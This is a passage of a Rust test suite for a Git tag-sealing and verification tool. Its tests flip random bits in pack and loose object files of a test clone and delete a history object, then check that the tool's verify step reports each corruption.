    assert_eq!((status, failures(&view)), (Some(1), vec!["signature sealed/A-001".to_owned()]));
    for home in [ring.as_str(), &format!("{}/.gnupg", clone.path().join("../home").display())] {
        let _ = lab.command(["gpgconf", "--kill", "all"]).env("GNUPGHOME", home).output();
    }
}

/// Numbers without a pattern, the same each time.
struct Dice(u64);

impl Dice {
    fn below(&mut self, end: usize) -> usize {
        // Steele, Lea and Flood (2014): SplitMix64.
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut word = self.0;
        word = (word ^ (word >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        word = (word ^ (word >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        usize::try_from((word ^ (word >> 31)) % end as u64).expect("it is below a size")
    }
}

impl Clone {
    fn pack(&self) -> PathBuf {
        let items = fs::read_dir(self.path().join(".git/objects/pack")).expect("a folder");
        let mut paths = items.map(|it| it.expect("an item").path());
        paths.find(|it| it.extension().is_some_and(|it| it == "pack")).expect("a clone has a pack")
    }

    /// Puts every object into a file of its own.
    fn unpack(&self) {
        fs::rename(self.pack(), self.path().join(".git/aside.pack")).expect("the clone is ours");
        fs::remove_dir_all(self.path().join(".git/objects/pack")).expect("the clone is ours");
        let unpacked = self.command("sh", &["-c", "git unpack-objects -q < .git/aside.pack"], "clone");
        assert!(unpacked.status.success(), "{}", String::from_utf8_lossy(&unpacked.stderr));
    }

    /// Everything that the tag reaches, as Git reads it, or what it says where it cannot.
    fn content(&self) -> Vec<u8> {
        let read = "git rev-list --objects --no-object-names sealed/A-001 | git cat-file --batch 2>&1";
        self.command("sh", &["-c", read], "clone").stdout
    }

    /// Flips one bit of a file; `true` where `verify` found it, `false` where Git reads the very same bytes as before.
    fn finds_flip(&self, path: &Path, bit: usize, content: &[u8]) -> bool {
        let before = fs::read(path).expect("it is there");
        let mut bytes = before.clone();
        bytes[bit / 8] ^= 1 << (bit % 8);
        // Objects are written once: the file can be replaced, and not written to.
        fs::remove_file(path).expect("the clone is ours");
        fs::write(path, bytes).expect("the clone is ours");
        let (status, view) = self.verify("sealed/A-001");
        let is_found = status == Some(1) && !failures(&view).is_empty();
        // Some bits of a compressed stream say nothing, as those that fill its last byte.
        assert!(is_found || self.content() == content, "bit {bit} of {} is flipped: {view}", path.display());
        fs::remove_file(path).expect("the clone is ours");
        fs::write(path, before).expect("the clone is ours");
        is_found
    }
}

#[test]
fn each_of_200_flipped_bits_on_disk_is_found_in_loose_objects_and_in_a_pack() {
    let lab = done();
    lab.exp_ok(["seal", "A-001", "--attest"]);
    let flips = |is_packed: bool, wanted: usize| {
        let clone = Clone::of(&lab, "sealed/A-001");
        let mut files = vec![clone.pack()];
        if !is_packed {
            clone.unpack();
            let objects = clone.git(&["rev-list", "--objects", "--no-object-names", "sealed/A-001"]);
            let path = |it: &str| clone.path().join(".git/objects").join(&it[..2]).join(&it[2..]);
            files = objects.lines().map(path).collect();
            assert!(files.len() > 40, "{objects}");
        }
        let content = clone.content();
        assert_eq!(clone.verify("sealed/A-001").0, Some(0));
        let mut dice = Dice(7);
        let (mut found, mut idle) = (0, 0);
        while found < wanted {
            let file = &files[dice.below(files.len())];
            let length = fs::metadata(file).expect("it is there").len();
            // A pack begins with its version and ends with a digest of its own, which is no object's.
            let margins = if is_packed { (12, 20) } else { (0, 0) };
            let bits = (usize::try_from(length).expect("a size") - margins.0 - margins.1) * 8;
            match clone.finds_flip(file, margins.0 * 8 + dice.below(bits), &content) {
                true => found += 1,
                false => idle += 1,
            }
        }
        assert!(idle <= wanted / 10, "{idle} flips changed nothing");
        assert_eq!(clone.verify("sealed/A-001").0, Some(0), "all is as it was");
    };
    std::thread::scope(|scope| {
        scope.spawn(|| flips(true, 70));
        flips(false, 140);
    });
}

#[test]
fn history_that_was_altered_or_is_missing_is_found() {
    let lab = done();
    let first = lab.git(["rev-parse", "main~1"]).trim().to_owned();
    lab.exp_ok(["seal", "A-001"]);
    let clone = Clone::of(&lab, "sealed/A-001");
    clone.unpack();
    let path = clone.path().join(".git/objects").join(&first[..2]).join(&first[2..]);
    fs::remove_file(&path).expect("the clone is ours");
    let (status, view) = clone.verify("sealed/A-001");
    assert_eq!(status, Some(1));
    assert!(failures(&view).iter().all(|it| it.starts_with("history ")), "{view}");
}
